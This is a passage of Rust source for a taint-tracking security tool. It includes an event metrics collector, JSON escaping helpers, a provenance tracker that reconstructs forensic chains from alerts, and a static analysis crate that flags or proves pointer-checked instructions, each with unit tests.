                "\"syscalls\":{},\"cache\":[{{\"hits\":{},\"misses\":{}}},{{\"hits\":{},\"misses\":{}}}],",
                "\"decode_cache\":{{\"hits\":{},\"misses\":{},\"invalidations\":{}}},",
                "\"elided_checks\":{},\"statically_proven\":{},",
                "\"faults_injected\":{},\"faults_by_kind\":{},",
                "\"pages_shared\":{},\"cow_faults\":{},",
                "\"taint_density\":[{}]}}"
            ),
            self.retired,
            self.tainted_retired,
            self.taint_sources,
            self.source_bytes,
            self.propagations,
            map(&self.propagations_by_rule),
            self.pointer_checks,
            self.alerts,
            map(&self.alerts_by_kind),
            map(&self.syscalls),
            self.cache[0].hits,
            self.cache[0].misses,
            self.cache[1].hits,
            self.cache[1].misses,
            self.decode_cache.hits,
            self.decode_cache.misses,
            self.decode_cache.invalidations,
            self.elided_checks,
            self.statically_proven,
            self.faults_injected,
            map(&self.faults_by_kind),
            self.pages_shared,
            self.cow_faults,
            density.join(","),
        )
    }
}

/// Streams events into a [`MetricsSnapshot`].
#[derive(Debug, Default)]
pub struct MetricsCollector {
    snap: MetricsSnapshot,
    window_retired: u64,
    window_tainted: u64,
}

impl MetricsCollector {
    /// A collector with all counters at zero.
    #[must_use]
    pub fn new() -> MetricsCollector {
        MetricsCollector::default()
    }

    /// Folds one event into the counters.
    pub fn record(&mut self, event: &Event) {
        match event {
            Event::Retire { tainted, .. } => {
                self.snap.retired += 1;
                self.window_retired += 1;
                if *tainted {
                    self.snap.tainted_retired += 1;
                    self.window_tainted += 1;
                }
                if self.window_retired == DENSITY_WINDOW {
                    self.flush_window();
                }
            }
            Event::TaintSource { len, .. } => {
                self.snap.taint_sources += 1;
                self.snap.source_bytes += u64::from(*len);
            }
            Event::TaintPropagate(t) => {
                self.snap.propagations += 1;
                *self.snap.propagations_by_rule.entry(t.rule).or_insert(0) += 1;
            }
            Event::PointerCheck { .. } => self.snap.pointer_checks += 1,
            Event::Alert { kind, .. } => {
                self.snap.alerts += 1;
                *self.snap.alerts_by_kind.entry(kind).or_insert(0) += 1;
            }
            Event::Syscall { name, .. } => {
                *self.snap.syscalls.entry(name).or_insert(0) += 1;
            }
            Event::CacheAccess { level, hit, .. } => {
                let idx = usize::from(*level).saturating_sub(1).min(1);
                if *hit {
                    self.snap.cache[idx].hits += 1;
                } else {
                    self.snap.cache[idx].misses += 1;
                }
            }
            Event::DecodeCache { kind, .. } => match *kind {
                "hit" => self.snap.decode_cache.hits += 1,
                "invalidate" => self.snap.decode_cache.invalidations += 1,
                _ => self.snap.decode_cache.misses += 1,
            },
            Event::StaticAnalysis { proven, .. } => {
                self.snap.statically_proven += proven;
            }
            Event::CheckElided { .. } => self.snap.elided_checks += 1,
            Event::FaultInjected { kind, .. } => {
                self.snap.faults_injected += 1;
                *self.snap.faults_by_kind.entry(kind).or_insert(0) += 1;
            }
            // Snapshot captures, replay divergences and degraded-mode
            // transitions carry no counters of their own (degradations are
            // counted in `ExecStats::integrity_failures`); fork events feed
            // the COW metrics.
            Event::Snapshot { .. }
            | Event::ReplayDivergence { .. }
            | Event::DegradedMode { .. } => {}
            Event::Fork {
                pages_shared,
                cow_faults,
            } => {
                self.snap.pages_shared = *pages_shared;
                self.snap.cow_faults += cow_faults;
            }
        }
    }

    fn flush_window(&mut self) {
        if self.window_retired > 0 {
            self.snap
                .taint_density
                .push(self.window_tainted as f64 / self.window_retired as f64);
        }
        self.window_retired = 0;
        self.window_tainted = 0;
    }

    /// Finishes the trailing density window and returns the totals.
    #[must_use]
    pub fn snapshot(mut self) -> MetricsSnapshot {
        self.flush_window();
        self.snap
    }

    /// A point-in-time copy of the totals *without* consuming the collector
    /// — the trailing partial density window is appended to the copy but
    /// collection continues unperturbed. Drives the periodic
    /// `metrics_snapshot` records of `--metrics-interval`.
    #[must_use]
    pub fn peek(&self) -> MetricsSnapshot {
        let mut snap = self.snap.clone();
        if self.window_retired > 0 {
            snap.taint_density
                .push(self.window_tainted as f64 / self.window_retired as f64);
        }
        snap
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_isa::Instr;

    fn retire(tainted: bool) -> Event {
        Event::Retire {
            pc: 0x400000,
            instr: Instr::Break { code: 0 },
            tainted,
        }
    }

    #[test]
    fn density_windows_capture_the_tainted_fraction() {
        let mut m = MetricsCollector::new();
        for i in 0..DENSITY_WINDOW {
            m.record(&retire(i < DENSITY_WINDOW / 4));
        }
        for _ in 0..10 {
            m.record(&retire(true));
        }
        let snap = m.snapshot();
        assert_eq!(snap.retired, DENSITY_WINDOW + 10);
        assert_eq!(snap.tainted_retired, DENSITY_WINDOW / 4 + 10);
        assert_eq!(snap.taint_density.len(), 2);
        assert!((snap.taint_density[0] - 0.25).abs() < 1e-9);
        assert!((snap.taint_density[1] - 1.0).abs() < 1e-9);
    }

    #[test]
    fn breakdown_maps_count_by_name() {
        let mut m = MetricsCollector::new();
        m.record(&Event::Syscall {
            pc: 0,
            number: 46,
            name: "recv",
            result: 16,
        });
        m.record(&Event::Syscall {
            pc: 4,
            number: 46,
            name: "recv",
            result: 0,
        });
        m.record(&Event::TaintSource {
            kind: "syscall",
            label: "recv#1".to_string(),
            base: 0x1000,
            len: 16,
        });
        let snap = m.snapshot();
        assert_eq!(snap.syscalls.get("recv"), Some(&2));
        assert_eq!(snap.taint_sources, 1);
        assert_eq!(snap.source_bytes, 16);
        let json = snap.to_json();
        assert!(json.contains("\"syscalls\":{\"recv\":2}"), "{json}");
    }

    #[test]
    fn decode_cache_counters_fold_by_kind() {
        let mut m = MetricsCollector::new();
        for kind in ["miss", "hit", "hit", "invalidate", "miss"] {
            m.record(&Event::DecodeCache { page: 0x400, kind });
        }
        let snap = m.snapshot();
        assert_eq!(snap.decode_cache.hits, 2);
        assert_eq!(snap.decode_cache.misses, 2);
        assert_eq!(snap.decode_cache.invalidations, 1);
        let json = snap.to_json();
        assert!(
            json.contains("\"decode_cache\":{\"hits\":2,\"misses\":2,\"invalidations\":1}"),
            "{json}"
        );
    }

    #[test]
    fn fault_injection_counters_fold_by_kind() {
        let mut m = MetricsCollector::new();
        for kind in ["taint_clear", "short_read", "taint_clear"] {
            m.record(&Event::FaultInjected {
                kind,
                detail: "x".to_string(),
            });
        }
        let snap = m.snapshot();
        assert_eq!(snap.faults_injected, 3);
        assert_eq!(snap.faults_by_kind.get("taint_clear"), Some(&2));
        let json = snap.to_json();
        assert!(
            json.contains(
                "\"faults_injected\":3,\"faults_by_kind\":{\"short_read\":1,\"taint_clear\":2}"
            ),
            "{json}"
        );
    }

    #[test]
    fn elision_counters_fold_from_both_events() {
        let mut m = MetricsCollector::new();
        m.record(&Event::StaticAnalysis {
            functions: 4,
            blocks: 20,
            proven: 13,
            flagged: 2,
            cached: false,
        });
        for pc in [0x400010, 0x400010, 0x400024] {
            m.record(&Event::CheckElided { pc });
        }
        let snap = m.snapshot();
        assert_eq!(snap.statically_proven, 13);
        assert_eq!(snap.elided_checks, 3);
        let json = snap.to_json();
        assert!(
            json.contains("\"elided_checks\":3,\"statically_proven\":13"),
            "{json}"
        );
    }
}
