//! Hand-rolled JSON rendering.
//!
//! The build environment cannot reach crates.io, so instead of deriving
//! `serde::Serialize` the observability layer renders JSON with this small
//! module: a [`ToJson`] trait plus string escaping. Field order is fixed by
//! each implementation, which is exactly what the golden-file schema test
//! wants anyway.

/// Types that render themselves as one JSON value.
pub trait ToJson {
    /// The JSON encoding of `self` (a complete value, no trailing newline).
    fn to_json(&self) -> String;
}

/// Escapes `s` as a JSON string literal, including the surrounding quotes.
#[must_use]
pub fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// Renders word-taint bits in the paper's MSB-first style: `0b1001` → `T--T`.
#[must_use]
pub fn taint_str(bits: u8) -> String {
    (0..4)
        .rev()
        .map(|i| if bits & (1 << i) != 0 { 'T' } else { '-' })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_handles_quotes_and_control_chars() {
        assert_eq!(escape("a\"b"), "\"a\\\"b\"");
        assert_eq!(escape("a\\b"), "\"a\\\\b\"");
        assert_eq!(escape("a\nb"), "\"a\\nb\"");
        assert_eq!(escape("\u{1}"), "\"\\u0001\"");
        assert_eq!(escape("plain"), "\"plain\"");
    }

    #[test]
    fn taint_str_is_msb_first() {
        assert_eq!(taint_str(0b0000), "----");
        assert_eq!(taint_str(0b1111), "TTTT");
        assert_eq!(taint_str(0b1001), "T--T");
        assert_eq!(taint_str(0b0001), "---T");
    }
}
