//! Taint provenance: labeled sources, a sparse per-byte origin map, a
//! bounded propagation ring, and forensic-chain reconstruction.
//!
//! The tracker watches the event stream and maintains, incrementally:
//!
//! * `sources` — every labeled [`Event::TaintSource`] seen so far;
//! * `mem_origin` — a sparse map from tainted guest byte address to the
//!   index of the source that (transitively) tainted it;
//! * `reg_origin` / `hilo_origin` — the same for register words;
//! * `ring` — the last N [`Transfer`]s, so the step-by-step path can be
//!   replayed backwards from an alert.
//!
//! When an [`Event::Alert`] arrives, the tracker walks the ring backwards
//! from the flagged pointer register, collecting the chain of transfers
//! that moved the taint there, and resolves the root source from the origin
//! maps — which works even when the chain's early steps have fallen off the
//! bounded ring.

use crate::event::{Event, Loc, Transfer};
use crate::json::taint_str;
use ptaint_isa::{Instr, Reg};
use std::collections::{HashMap, VecDeque};
use std::fmt;

/// Default capacity of the propagation ring.
pub const DEFAULT_RING_DEPTH: usize = 4096;

/// Longest chain rendered for one alert.
const MAX_CHAIN_STEPS: usize = 32;

/// One labeled taint source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SourceInfo {
    /// Source category: `"syscall"`, `"argv"`, or `"env"`.
    pub kind: &'static str,
    /// Human-readable origin, e.g. `recv#2 fd=4` or `argv[1]`.
    pub label: String,
    /// First tainted guest address.
    pub base: u32,
    /// Number of tainted bytes.
    pub len: u32,
}

impl fmt::Display for SourceInfo {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} ({}) bytes 0x{:x}..0x{:x}",
            self.label,
            self.kind,
            self.base,
            self.base + self.len
        )
    }
}

/// The forensic chain attached to one alert: from the input that tainted
/// the data to the instruction that dereferenced it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ForensicChain {
    /// The root taint source, when the origin maps could resolve one.
    pub source: Option<SourceInfo>,
    /// Propagation steps in execution order (oldest first).
    pub steps: Vec<Transfer>,
    /// Address of the alerting instruction.
    pub alert_pc: u32,
    /// The alerting instruction.
    pub alert_instr: Instr,
    /// Register that held the tainted pointer.
    pub pointer_reg: Reg,
    /// The tainted pointer value.
    pub pointer: u32,
    /// Per-byte taint of the pointer.
    pub taint_bits: u8,
}

impl fmt::Display for ForensicChain {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.source {
            Some(src) => writeln!(f, "taint source: {src}")?,
            None => writeln!(f, "taint source: <outside propagation window>")?,
        }
        for step in &self.steps {
            writeln!(f, "    {step}")?;
        }
        write!(
            f,
            "    {:x}: {}  flagged: {}=0x{:x} [{}]",
            self.alert_pc,
            self.alert_instr,
            self.pointer_reg,
            self.pointer,
            taint_str(self.taint_bits)
        )
    }
}

/// Incrementally tracks where taint came from (see module docs).
#[derive(Debug)]
pub struct ProvenanceTracker {
    sources: Vec<SourceInfo>,
    mem_origin: HashMap<u32, u32>,
    reg_origin: [Option<u32>; 32],
    hilo_origin: Option<u32>,
    ring: VecDeque<Transfer>,
    depth: usize,
    last_chain: Option<ForensicChain>,
}

impl Default for ProvenanceTracker {
    fn default() -> ProvenanceTracker {
        ProvenanceTracker::new(DEFAULT_RING_DEPTH)
    }
}

impl ProvenanceTracker {
    /// A tracker whose propagation ring holds `depth` transfers.
    #[must_use]
    pub fn new(depth: usize) -> ProvenanceTracker {
        ProvenanceTracker {
            sources: Vec::new(),
            mem_origin: HashMap::new(),
            reg_origin: [None; 32],
            hilo_origin: None,
            ring: VecDeque::with_capacity(depth.min(DEFAULT_RING_DEPTH)),
            depth: depth.max(1),
            last_chain: None,
        }
    }

    /// The sources labeled so far.
    #[must_use]
    pub fn sources(&self) -> &[SourceInfo] {
        &self.sources
    }

    /// The chain built for the most recent alert, if any.
    #[must_use]
    pub fn last_chain(&self) -> Option<&ForensicChain> {
        self.last_chain.as_ref()
    }

    /// Consumes the tracker, yielding the most recent alert's chain.
    #[must_use]
    pub fn into_last_chain(self) -> Option<ForensicChain> {
        self.last_chain
    }

    /// Folds one event into the origin maps / ring.
    pub fn record(&mut self, event: &Event) {
        match event {
            Event::TaintSource {
                kind,
                label,
                base,
                len,
            } => {
                let id = self.sources.len() as u32;
                self.sources.push(SourceInfo {
                    kind,
                    label: label.clone(),
                    base: *base,
                    len: *len,
                });
                for addr in *base..base.saturating_add(*len) {
                    self.mem_origin.insert(addr, id);
                }
            }
            Event::TaintPropagate(t) => {
                self.apply_transfer(t);
                if self.ring.len() == self.depth {
                    self.ring.pop_front();
                }
                self.ring.push_back(*t);
            }
            Event::Alert {
                pc,
                instr,
                reg,
                value,
                taint_bits,
                ..
            } => {
                self.last_chain = Some(self.build_chain(*pc, *instr, *reg, *value, *taint_bits));
            }
            _ => {}
        }
    }

    /// Current origin (source index) of a location, if known.
    fn origin_of(&self, loc: Loc) -> Option<u32> {
        match loc {
            Loc::Reg(r) => self.reg_origin[r.index()],
            Loc::Mem(addr) => {
                (addr..addr.saturating_add(4)).find_map(|a| self.mem_origin.get(&a).copied())
            }
            Loc::HiLo => self.hilo_origin,
        }
    }

    fn set_origin(&mut self, loc: Loc, taint_bits: u8, origin: Option<u32>) {
        match loc {
            Loc::Reg(r) => {
                if !r.is_zero() {
                    self.reg_origin[r.index()] = if taint_bits == 0 { None } else { origin };
                }
            }
            Loc::Mem(addr) => {
                for i in 0..4u32 {
                    if taint_bits & (1 << i) != 0 {
                        if let Some(id) = origin {
                            self.mem_origin.insert(addr.wrapping_add(i), id);
                        }
                    } else {
                        self.mem_origin.remove(&addr.wrapping_add(i));
                    }
                }
            }
            Loc::HiLo => {
                self.hilo_origin = if taint_bits == 0 { None } else { origin };
            }
        }
    }

    fn apply_transfer(&mut self, t: &Transfer) {
        let origin = t.srcs.iter().flatten().find_map(|&s| self.origin_of(s));
        self.set_origin(t.dst, t.taint_bits, origin);
    }

    /// Whether `addr..addr+4` overlaps any recorded source range.
    fn in_source_range(&self, addr: u32) -> bool {
        self.sources.iter().any(|s| {
            let end = s.base.saturating_add(s.len);
            addr < end && addr.saturating_add(4) > s.base
        })
    }

    fn build_chain(
        &self,
        pc: u32,
        instr: Instr,
        reg: Reg,
        value: u32,
        taint_bits: u8,
    ) -> ForensicChain {
        let mut steps: Vec<Transfer> = Vec::new();
        let mut target = Loc::Reg(reg);
        let mut source_id = self.origin_of(target);
        for t in self.ring.iter().rev() {
            if steps.len() >= MAX_CHAIN_STEPS {
                break;
            }
            if t.dst != target || t.taint_bits == 0 {
                continue;
            }
            steps.push(*t);
            // Follow the tainted operand backwards, preferring one whose
            // origin is known over one that merely exists.
            let next = t
                .srcs
                .iter()
                .flatten()
                .copied()
                .find(|&s| self.origin_of(s).is_some())
                .or_else(|| t.srcs.iter().flatten().copied().next());
            let Some(next) = next else { break };
            if let Some(id) = self.origin_of(next) {
                source_id = Some(id);
            }
            if let Loc::Mem(addr) = next {
                if self.in_source_range(addr) {
                    break;
                }
            }
            target = next;
        }
        steps.reverse();
        ForensicChain {
            source: source_id.map(|id| self.sources[id as usize].clone()),
            steps,
            alert_pc: pc,
            alert_instr: instr,
            pointer_reg: reg,
            pointer: value,
            taint_bits,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn load(pc: u32, dst: Reg, addr: u32) -> Transfer {
        Transfer {
            pc,
            instr: Instr::Load {
                width: ptaint_isa::MemWidth::Word,
                signed: false,
                rt: dst,
                base: Reg::SP,
                offset: 0,
            },
            rule: "load",
            dst: Loc::Reg(dst),
            srcs: [Some(Loc::Mem(addr)), None],
            taint_bits: 0b1111,
        }
    }

    fn alu(pc: u32, dst: Reg, a: Reg, b: Reg) -> Transfer {
        Transfer {
            pc,
            instr: Instr::RAlu {
                op: ptaint_isa::RAluOp::Addu,
                rd: dst,
                rs: a,
                rt: b,
            },
            rule: "generic",
            dst: Loc::Reg(dst),
            srcs: [Some(Loc::Reg(a)), Some(Loc::Reg(b))],
            taint_bits: 0b1111,
        }
    }

    fn source_event() -> Event {
        Event::TaintSource {
            kind: "syscall",
            label: "recv#1 fd=4".to_string(),
            base: 0x1000,
            len: 64,
        }
    }

    #[test]
    fn chain_walks_from_alert_back_to_the_source() {
        let mut p = ProvenanceTracker::default();
        p.record(&source_event());
        p.record(&Event::TaintPropagate(load(0x400000, Reg::T0, 0x1008)));
        p.record(&Event::TaintPropagate(alu(
            0x400004,
            Reg::V1,
            Reg::T0,
            Reg::ZERO,
        )));
        p.record(&Event::Alert {
            pc: 0x400008,
            instr: Instr::JumpReg { rs: Reg::V1 },
            kind: "tainted jump pointer",
            policy: "ptaint",
            reg: Reg::V1,
            value: 0x61616161,
            taint_bits: 0b1111,
        });
        let chain = p.last_chain().expect("chain built on alert");
        let src = chain.source.as_ref().expect("root source resolved");
        assert_eq!(src.label, "recv#1 fd=4");
        assert_eq!(chain.steps.len(), 2);
        assert_eq!(chain.steps[0].pc, 0x400000);
        assert_eq!(chain.steps[1].pc, 0x400004);
        let rendered = chain.to_string();
        assert!(rendered.contains("recv#1 fd=4"), "{rendered}");
        assert!(
            rendered.contains("flagged: $3=0x61616161 [TTTT]"),
            "{rendered}"
        );
    }

    #[test]
    fn origin_survives_ring_overflow() {
        let mut p = ProvenanceTracker::new(4);
        p.record(&source_event());
        p.record(&Event::TaintPropagate(load(0x400000, Reg::T0, 0x1000)));
        // Flood the ring with unrelated transfers.
        for i in 0..16 {
            p.record(&Event::TaintPropagate(alu(
                0x500000 + i * 4,
                Reg::T5,
                Reg::T6,
                Reg::T7,
            )));
        }
        p.record(&Event::Alert {
            pc: 0x600000,
            instr: Instr::JumpReg { rs: Reg::T0 },
            kind: "tainted jump pointer",
            policy: "ptaint",
            reg: Reg::T0,
            value: 0xdead,
            taint_bits: 0b0011,
        });
        let chain = p.last_chain().unwrap();
        // The load fell off the ring, but the origin map still knows.
        assert_eq!(chain.source.as_ref().unwrap().label, "recv#1 fd=4");
    }

    #[test]
    fn untainted_overwrite_clears_the_origin() {
        let mut p = ProvenanceTracker::default();
        p.record(&source_event());
        p.record(&Event::TaintPropagate(load(0x400000, Reg::T0, 0x1000)));
        assert!(p.origin_of(Loc::Reg(Reg::T0)).is_some());
        let mut clean = alu(0x400004, Reg::T0, Reg::S0, Reg::S1);
        clean.taint_bits = 0;
        p.record(&Event::TaintPropagate(clean));
        assert!(p.origin_of(Loc::Reg(Reg::T0)).is_none());
    }
}
