#![warn(missing_docs)]

//! # ptaint-analyze — static taint dataflow over guest images
//!
//! The paper's detector is purely dynamic: every load, store and register
//! jump pays a taint check at runtime. This crate runs the same Table-1
//! propagation rules *statically* — an interprocedural abstract
//! interpretation over the recovered control-flow graph, seeding taint at
//! exactly the sources the kernel taints dynamically (`read`/`recv`
//! buffers, argv/envp strings) — and emits two artifacts:
//!
//! * a **lint report** ([`render_report`]): every load/store/`jr` whose
//!   address register may be tainted on some path, with disassembly and a
//!   call-chain from the entry point — the ghttpd-style bugs of §5.1.2,
//!   surfaced before execution;
//! * a **proven-clean set** ([`Analysis::proven`]): instruction addresses
//!   whose pointer check can never fire, which the cached execution engine
//!   uses to elide taint checks (see `ptaint-cpu`); soundness is a
//!   `Clean`-means-never-tainted claim, argued in docs/ANALYSIS.md and
//!   enforced by a machine-level differential test.
//!
//! The analysis is **summary-based** ([`summary`]): each function is
//! analyzed in its canonical frame, call sites apply the callee's exit
//! summary instead of havocking, and the per-function fixpoints run on a
//! deterministic parallel driver ([`parallel`]) scheduled bottom-up over
//! the static call graph's SCCs ([`callgraph`]). Results can be persisted
//! in a content-addressed proof cache ([`cache`]).
//!
//! ```
//! use ptaint_asm::assemble;
//!
//! let image = assemble("main: lw $2, 0($29)\n jr $31").unwrap();
//! let analysis = ptaint_analyze::analyze(&image);
//! // Stack load through $sp and the return jump are both provably clean.
//! assert_eq!(analysis.stats.proven_sites, 2);
//! assert!(analysis.findings.is_empty());
//! ```

pub mod cache;
pub mod callgraph;
pub mod domain;
pub mod interp;
pub mod parallel;
mod report;
pub mod state;
pub mod summary;

use std::collections::{BTreeMap, BTreeSet, VecDeque};

use ptaint_asm::Image;
use ptaint_isa::{DecodedInsn, Instr, PAGE_SIZE};

pub use domain::{Region, Taint};
pub use report::render_report;

/// What kind of pointer-checked instruction a finding points at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SiteKind {
    /// A memory load (`l{b,h,w}[u]`).
    Load,
    /// A memory store (`s{b,h,w}`).
    Store,
    /// A register-indirect jump (`jr`/`jalr`).
    RegisterJump,
}

/// One lint finding: a pointer-checked instruction whose address register
/// may be tainted on some feasible abstract path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// Instruction address.
    pub pc: u32,
    /// The flagged instruction.
    pub instr: Instr,
    /// Load, store, or register jump.
    pub kind: SiteKind,
    /// Name of the containing function (symbol, or hex address).
    pub function: String,
    /// Byte offset of `pc` within the containing function.
    pub offset: u32,
    /// Call chain from the entry function to the containing function
    /// (definite `jal`/resolved-`jalr` edges only; starts at the entry).
    /// A function that calls itself contributes one repeated frame, which
    /// the report collapses to `(×N)`.
    pub chain: Vec<String>,
}

/// Aggregate counters describing the analysis run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct AnalyzeStats {
    /// Functions owning at least one reachable block.
    pub functions: usize,
    /// Reachable basic blocks.
    pub blocks: usize,
    /// Reachable instructions.
    pub instructions: usize,
    /// Loads and stores among the checked sites.
    pub load_store_sites: usize,
    /// Register jumps among the checked sites.
    pub register_jump_sites: usize,
    /// Sites whose address register is provably clean on every path
    /// (including the vacuously proven ones).
    pub proven_sites: usize,
    /// Sites flagged tainted on some path.
    pub flagged_sites: usize,
    /// Sites the analysis could not decide either way.
    pub unresolved_sites: usize,
    /// Subset of `proven_sites` lying in functions the interprocedural
    /// analysis proved unreachable: their checks can never execute, so
    /// they are proven vacuously.
    pub vacuous_sites: usize,
}

/// The full result of analyzing one image.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Analysis {
    /// Aggregate counters.
    pub stats: AnalyzeStats,
    /// Tainted-pointer findings, sorted by address.
    pub findings: Vec<Finding>,
    /// Addresses of pointer-checked instructions proven clean — the
    /// elision candidates handed to the decode cache. Empty when the
    /// analysis is degraded.
    pub proven: BTreeSet<u32>,
    /// Text page indexes targeted by statically visible stores
    /// (self-modifying code); their sites are never proven.
    pub smc_pages: BTreeSet<u32>,
    /// `Some(reason)` when the analysis gave up proving anything.
    pub degraded: Option<String>,
}

/// Default analysis worker count: the machine's available parallelism,
/// clamped to `[1, 4]` (the fixpoint saturates quickly on testbed-sized
/// images).
#[must_use]
pub fn default_jobs() -> usize {
    std::thread::available_parallelism().map_or(1, |n| n.get().clamp(1, 4))
}

/// Statically analyzes a loaded image with the default worker count.
#[must_use]
pub fn analyze(image: &Image) -> Analysis {
    analyze_with(image, default_jobs())
}

/// Statically analyzes a loaded image: recovers the CFG and call graph,
/// runs the interprocedural summary fixpoint on `jobs` workers, and grades
/// every pointer-checked site. The result is byte-identical for any
/// `jobs` value (see [`parallel`]).
#[must_use]
pub fn analyze_with(image: &Image, jobs: usize) -> Analysis {
    let ctx = state::Ctx::new(image);
    let cv = parallel::converge(&ctx, jobs.max(1));

    // Extraction: replay every analyzed function's blocks against their
    // converged in-states, grading each pointer-checked site from its
    // pre-state. Effects are already converged; replaying must not
    // perturb them.
    let mut sites: BTreeMap<u32, interp::Site> = BTreeMap::new();
    let mut instructions = 0usize;
    let mut scratch = interp::Effects::default();
    for run in cv.runs.values() {
        for (&leader, st) in &run.in_states {
            let mut rec = |pc: u32, d: &DecodedInsn, pre: &state::State| {
                interp::grade_site(&mut sites, pc, d, pre);
            };
            let walk = interp::walk_block(
                &ctx,
                &run.leaders,
                run.view,
                leader,
                st.clone(),
                &mut scratch,
                Some(&mut rec),
            );
            instructions += walk.steps;
        }
    }

    // Function partitioning over the final entry set.
    let entries: Vec<u32> = cv.entries.iter().copied().collect();
    let owner = |pc: u32| -> Option<u32> {
        match entries.binary_search(&pc) {
            Ok(_) => Some(pc),
            Err(0) => None,
            Err(i) => Some(entries[i - 1]),
        }
    };
    let fn_name = |addr: u32| -> String {
        image
            .symbol_at(addr)
            .map_or_else(|| format!("{addr:#010x}"), str::to_owned)
    };

    // Definite call graph at function granularity, then a BFS from the
    // entry function to derive reachability chains.
    let mut graph: BTreeMap<u32, BTreeSet<u32>> = BTreeMap::new();
    for (&e, run) in &cv.runs {
        for &(_, callee) in &run.calls {
            if let Some(to) = owner(callee) {
                graph.entry(e).or_default().insert(to);
            }
        }
    }
    let root = owner(ctx.entry).unwrap_or(ctx.entry);
    let mut parent: BTreeMap<u32, u32> = BTreeMap::new();
    let mut queue = VecDeque::from([root]);
    let mut seen = BTreeSet::from([root]);
    while let Some(f) = queue.pop_front() {
        if let Some(callees) = graph.get(&f) {
            for &c in callees {
                if seen.insert(c) {
                    parent.insert(c, f);
                    queue.push_back(c);
                }
            }
        }
    }
    let chain_of = |f: u32| -> Vec<String> {
        if !seen.contains(&f) {
            return vec![fn_name(f)];
        }
        let mut path = vec![f];
        let mut cur = f;
        while let Some(&p) = parent.get(&cur) {
            path.push(p);
            cur = p;
        }
        path.reverse();
        let mut names: Vec<String> = path.into_iter().map(fn_name).collect();
        // A self-recursive containing function genuinely re-enters itself:
        // surface the `f > f` edge (the report collapses it to `(×2)`).
        if graph.get(&f).is_some_and(|cs| cs.contains(&f)) {
            names.push(fn_name(f));
        }
        names
    };

    let mut stats = AnalyzeStats {
        functions: cv.runs.len(),
        blocks: cv.runs.values().map(|r| r.in_states.len()).sum(),
        instructions,
        ..AnalyzeStats::default()
    };

    let mut findings = Vec::new();
    let mut proven = BTreeSet::new();
    for site in sites.values() {
        if site.is_jump {
            stats.register_jump_sites += 1;
        } else {
            stats.load_store_sites += 1;
        }
        match site.taint {
            Taint::Clean => {
                let on_smc_page = cv.fx.smc_pages.contains(&(site.pc / PAGE_SIZE));
                if cv.degraded.is_none() && !on_smc_page {
                    proven.insert(site.pc);
                    stats.proven_sites += 1;
                } else {
                    stats.unresolved_sites += 1;
                }
            }
            Taint::Unknown => stats.unresolved_sites += 1,
            Taint::Tainted => {
                stats.flagged_sites += 1;
                let function = owner(site.pc).unwrap_or(ctx.entry);
                findings.push(Finding {
                    pc: site.pc,
                    instr: site.instr,
                    kind: match site.instr {
                        Instr::Load { .. } => SiteKind::Load,
                        Instr::Store { .. } => SiteKind::Store,
                        _ => SiteKind::RegisterJump,
                    },
                    function: fn_name(function),
                    offset: site.pc - function,
                    chain: chain_of(function),
                });
            }
        }
    }

    // Functions that never received a context are unreachable under the
    // analysis' over-approximate control flow (the Anywhere accumulator,
    // when present, makes *every* function analyzable, so absence here is
    // a sound unreachability proof): their checks can never execute and
    // are proven vacuously. Skipped when degraded — reachability can't be
    // trusted after a budget blowout.
    if cv.degraded.is_none() {
        let text_end = ctx.text_base + 4 * u32::try_from(ctx.words.len()).unwrap_or(u32::MAX);
        for (i, &e) in entries.iter().enumerate() {
            if cv.runs.contains_key(&e) {
                continue;
            }
            let hi = entries
                .get(i + 1)
                .copied()
                .unwrap_or(text_end)
                .min(text_end);
            let mut pc = e;
            while pc < hi {
                if let Some(word) = ctx.word_at(pc) {
                    if let Ok(d) = DecodedInsn::predecode(pc, word) {
                        let kind = match d.instr {
                            Instr::Load { .. } | Instr::Store { .. } => Some(false),
                            Instr::JumpReg { .. } | Instr::JumpAndLinkReg { .. } => Some(true),
                            _ => None,
                        };
                        if let Some(is_jump) = kind {
                            if is_jump {
                                stats.register_jump_sites += 1;
                            } else {
                                stats.load_store_sites += 1;
                            }
                            if cv.fx.smc_pages.contains(&(pc / PAGE_SIZE)) {
                                stats.unresolved_sites += 1;
                            } else {
                                proven.insert(pc);
                                stats.proven_sites += 1;
                                stats.vacuous_sites += 1;
                            }
                        }
                    }
                }
                pc += 4;
            }
        }
    }

    Analysis {
        stats,
        findings,
        proven,
        smc_pages: cv.fx.smc_pages.clone(),
        degraded: cv.degraded.clone(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ptaint_asm::assemble;

    #[test]
    fn straight_line_stack_code_is_fully_proven() {
        let image = assemble(
            "main: addiu $sp, $sp, -16
                   sw $ra, 12($sp)
                   lw $2, 8($sp)
                   lw $ra, 12($sp)
                   addiu $sp, $sp, 16
                   jr $ra",
        )
        .unwrap();
        let a = analyze(&image);
        assert!(a.degraded.is_none());
        assert_eq!(a.findings, vec![]);
        // sw, lw, lw, jr all proven; the exit stub adds none.
        assert_eq!(a.stats.proven_sites, 4);
        assert_eq!(a.stats.load_store_sites, 3);
        assert_eq!(a.stats.register_jump_sites, 1);
    }

    #[test]
    fn loading_an_argv_string_pointer_is_not_proven_but_not_flagged() {
        // lw $t0, 0($a1) loads argv[0] through the (clean) array pointer —
        // provably safe. lb $t1, 0($t0) dereferences the loaded pointer:
        // concretely clean, but it lives in the band shared with the
        // tainted string bytes, so it stays unresolved (checked at
